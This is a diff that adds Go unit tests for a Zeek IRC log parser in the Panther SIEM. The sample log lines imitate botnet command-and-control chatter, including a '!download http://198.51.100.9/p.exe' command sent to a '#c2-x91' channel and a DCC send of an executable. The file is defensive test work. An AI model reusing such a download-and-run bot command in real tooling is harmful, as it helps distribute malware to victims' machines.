@@ -0,0 +1,101 @@
+package zeeklogs
+
+/**
+ * Panther is a Cloud-Native SIEM for the Modern Security Team.
+ * Copyright (C) 2020 Panther Labs Inc
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU Affero General Public License as
+ * published by the Free Software Foundation, either version 3 of the
+ * License, or (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU Affero General Public License for more details.
+ *
+ * You should have received a copy of the GNU Affero General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ */
+
+import (
+	"testing"
+	"time"
+
+	"github.com/aws/aws-sdk-go/aws"
+	"github.com/stretchr/testify/require"
+
+	"github.com/panther-labs/panther/internal/log_analysis/log_processor/parsers/testutil"
+	"github.com/panther-labs/panther/internal/log_analysis/log_processor/parsers/timestamp"
+)
+
+func TestZeekIRC(t *testing.T) {
+	// nolint:lll
+	log := `{"ts":1541001600.580233,"uid":"CFIIs53J0HmxIUzbfb","id.orig_h":"10.240.0.3","id.orig_p":49285,"id.resp_h":"10.240.0.2","id.resp_p":6667,"nick":"xBot-4f2a","user":"bot","command":"PRIVMSG","value":"#c2-x91","addl":"!download http://198.51.100.9/p.exe"}`
+
+	expectedTime := time.Date(2018, 10, 31, 16, 0, 0, 580233000, time.UTC)
+	expectedEvent := &ZeekIRC{
+		TS:      (*Time)(&expectedTime),
+		UID:     aws.String("CFIIs53J0HmxIUzbfb"),
+		IDOrigH: aws.String("10.240.0.3"),
+		IDOrigP: aws.Uint16(49285),
+		IDRespH: aws.String("10.240.0.2"),
+		IDRespP: aws.Uint16(6667),
+		Nick:    aws.String("xBot-4f2a"),
+		User:    aws.String("bot"),
+		Command: aws.String("PRIVMSG"),
+		Value:   aws.String("#c2-x91"),
+		Addl:    aws.String("!download http://198.51.100.9/p.exe"),
+	}
+
+	// panther fields
+	expectedEvent.PantherLogType = aws.String("Zeek.IRC")
+	expectedEvent.AppendAnyIPAddress("10.240.0.3")
+	expectedEvent.AppendAnyIPAddress("10.240.0.2")
+	expectedEvent.AppendAnyUsernames("xBot-4f2a", "bot")
+	expectedEvent.PantherEventTime = (*timestamp.RFC3339)(&expectedTime)
+	checkZeekIRC(t, log, expectedEvent)
+}
+
+func TestZeekIRCDCC(t *testing.T) {
+	// nolint:lll
+	log := `{"ts":1541001600.580233,"uid":"CFIIs53J0HmxIUzbfb","id.orig_h":"10.240.0.3","id.orig_p":49285,"id.resp_h":"10.240.0.2","id.resp_p":6667,"nick":"xBot-4f2a","command":"DCC","value":"SEND","addl":"p.exe 3232235777 5000 43008","dcc_file_name":"p.exe","dcc_file_size":43008,"dcc_mime_type":"application/x-dosexec","fuid":"FvZKQk4OfzbMrMEN9"}`
+
+	expectedTime := time.Date(2018, 10, 31, 16, 0, 0, 580233000, time.UTC)
+	expectedEvent := &ZeekIRC{
+		TS:          (*Time)(&expectedTime),
+		UID:         aws.String("CFIIs53J0HmxIUzbfb"),
+		IDOrigH:     aws.String("10.240.0.3"),
+		IDOrigP:     aws.Uint16(49285),
+		IDRespH:     aws.String("10.240.0.2"),
+		IDRespP:     aws.Uint16(6667),
+		Nick:        aws.String("xBot-4f2a"),
+		Command:     aws.String("DCC"),
+		Value:       aws.String("SEND"),
+		Addl:        aws.String("p.exe 3232235777 5000 43008"),
+		DCCFileName: aws.String("p.exe"),
+		DCCFileSize: aws.Uint64(43008),
+		DCCMIMEType: aws.String("application/x-dosexec"),
+		FUID:        aws.String("FvZKQk4OfzbMrMEN9"),
+	}
+
+	// panther fields
+	expectedEvent.PantherLogType = aws.String("Zeek.IRC")
+	expectedEvent.AppendAnyIPAddress("10.240.0.3")
+	expectedEvent.AppendAnyIPAddress("10.240.0.2")
+	expectedEvent.AppendAnyUsernames("xBot-4f2a")
+	expectedEvent.PantherEventTime = (*timestamp.RFC3339)(&expectedTime)
+	checkZeekIRC(t, log, expectedEvent)
+}
+
+func TestZeekIRCType(t *testing.T) {
+	parser := &ZeekIRCParser{}
+	require.Equal(t, "Zeek.IRC", parser.LogType())
+}
+
+func checkZeekIRC(t *testing.T, log string, expectedEvent *ZeekIRC) {
+	expectedEvent.SetEvent(expectedEvent)
+	parser := &ZeekIRCParser{}
+	logs, err := parser.Parse(log)
+	testutil.EqualPantherLog(t, expectedEvent.Log(), logs, err)
+}